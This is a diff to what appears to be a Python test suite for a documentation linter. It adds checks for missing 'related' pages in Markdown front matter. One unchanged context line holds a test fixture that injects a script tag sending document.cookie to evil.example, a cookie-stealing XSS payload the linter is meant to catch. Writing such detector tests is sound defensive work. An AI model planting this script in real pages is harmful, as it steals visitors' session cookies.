@@ -116,6 +116,10 @@ FAULTS = [
           "docs/en/faq.md", message="`description`"),
     Fault("unknown-key", front_matter("docs/ja/security.md", GOOD_FM + "\nauthor: someone"),
           "frontmatter-unknown-key", "docs/ja/security.md", "author:"),
+    # Issue 15: a writer's related pages must exist (the related list would skip them without a word).
+    Fault("related-missing", front_matter("docs/ja/troubles/trading.md", GOOD_FM + "\nrelated:\n  - account.md\n"
+                                          "  - deposit-withdrawal.md"), "related-target",
+          "docs/ja/troubles/trading.md", "deposit-withdrawal.md", message="deposits-withdrawals.md"),
     Fault("bad-yaml", front_matter("docs/ja/security.md", "title: Staying safe: the basics\ndescription: x"),
           "frontmatter-syntax", "docs/ja/security.md", "title:", also={"frontmatter-required"}),
     Fault("script", append(EN, '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
@@ -158,6 +162,8 @@ HARMLESS = {
         append(EN, "See the [FAQ](../faq.md) (48 hours).")(root),
         append(JA, "[よくある質問](../faq.md)もご覧ください（48時間）。")(root),
     ),
+    "related-override": front_matter("docs/ja/troubles/other.md",
+                                     GOOD_FM + "\nrelated: [../contact/compose.md, account.md, ../faq.md]"),
     "single-digit-count": append(EN, "There are 6 types of trouble."),
     "allowlisted-host": lambda root: (
         append(EN, "[FSA](https://www.fsa.go.jp/en/index.html)")(root),
